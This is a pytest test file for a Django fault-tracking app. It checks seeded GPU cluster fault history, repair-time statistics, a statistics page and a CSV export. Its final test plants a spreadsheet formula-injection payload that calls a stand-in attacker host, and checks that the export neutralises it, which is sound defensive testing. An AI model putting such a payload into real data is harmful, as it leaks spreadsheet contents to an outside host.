"""`manage.py seed_fault_history`: the paper's history as real rows, read back by the statistics."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client

from faults.models import FaultTicket, RepairCase
from faults.repair_workflow import RepairStatus
from faults.statistics import fault_statistics, repair_statistics
from portal.models import Role

pytestmark = pytest.mark.django_db


def test_seeded_history_reads_back_the_papers_counts_and_its_three_replacements():
    call_command("seed_fault_history", stdout=StringIO())

    statistics = fault_statistics()
    assert statistics["total"] == 21
    assert [(row["month"], row["count"]) for row in statistics["by_month"]] == [
        ("2025-01", 13),
        ("2025-02", 5),
        ("2025-03", 3),
    ]
    assert {row["category"]: row["count"] for row in statistics["by_category"]} == {
        "gpu": 9,
        "nvlink_nvswitch_pcie": 4,
        "nic_transceiver": 1,
        "interconnect_switch": 5,
        "storage_switch": 1,
        "misconfiguration": 1,
    }
    recoveries = {row["method"]: row["count"] for row in statistics["by_recovery_method"]}
    assert recoveries["warm_reboot"] + recoveries["cold_reboot"] == 10
    assert recoveries["part_replaced"] == 3

    cases = RepairCase.objects.order_by("opened_at")
    assert [case.component for case in cases] == ["gpu_tray", "nvlink_module", "transceiver"]
    assert [case.ticket.category for case in cases] == [
        "gpu",
        "nvlink_nvswitch_pcie",
        "nic_transceiver",
    ]
    assert all(case.status == RepairStatus.CLOSED for case in cases)
    # Lead times "from days to weeks": the shortest wait is days, the longest over two weeks.
    waits = sorted(case.waited_for_part.days for case in cases)
    assert waits[0] < 7 and waits[-1] >= 14


def test_seeding_twice_creates_nothing_the_second_time():
    first, second = StringIO(), StringIO()
    call_command("seed_fault_history", stdout=first)
    call_command("seed_fault_history", stdout=second)

    assert "21 tickets and 3 repair cases created" in first.getvalue()
    assert "0 tickets and 0 repair cases created" in second.getvalue()
    assert FaultTicket.objects.count() == 21
    assert RepairCase.objects.count() == 3


def test_repair_statistics_split_waiting_for_the_part_from_hands_on_time():
    call_command("seed_fault_history", stdout=StringIO())

    rows = {row["component"]: row for row in repair_statistics()}
    # The seed's lead times: 16, 9 and 4 days waiting; 4 h from opening the case to asking for
    # the part and 3 h at the rack after it arrived: 7 h hands-on.
    assert rows["gpu_tray"]["vendor"] == "Server vendor" and rows["gpu_tray"]["cases"] == 1
    assert rows["gpu_tray"]["waiting_for_part_hours"] == 16 * 24
    assert rows["nvlink_module"]["waiting_for_part_hours"] == 9 * 24
    assert rows["transceiver"]["waiting_for_part_hours"] == 4 * 24
    assert {row["hands_on_hours"] for row in rows.values()} == {7.0}
    assert rows["transceiver"]["mttr_hours"] == 4 * 24 + 7


def test_statistics_page_shows_the_repair_panel(make_user):
    call_command("seed_fault_history", stdout=StringIO())
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    html = client.get("/faults/statistics/").content.decode()

    assert 'id="repair-statistics"' in html
    assert "GPU tray / baseboard" in html and "NVLink / NVSwitch module" in html
    assert '<td class="num">384.0</td>' in html  # the GPU tray's 16 days for the part


def test_repair_case_csv_lists_the_cases_with_formulas_neutralised(make_user):
    call_command("seed_fault_history", stdout=StringIO())
    RepairCase.objects.filter(component="transceiver").update(
        vendor_case_number='=HYPERLINK("http://evil.example/?"&A1)'
    )
    client = Client()
    client.force_login(make_user(Role.VIEWER))

    response = client.get("/faults/repair-cases.csv")

    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(StringIO(response.content.decode())))
    assert [row["component"] for row in rows] == ["gpu_tray", "nvlink_module", "transceiver"]
    assert rows[0]["vendor_case_number"] == "SEED-2025-06"
    assert rows[0]["waiting_for_part_hours"] == "384.0"
    assert rows[2]["vendor_case_number"].startswith("'=HYPERLINK")
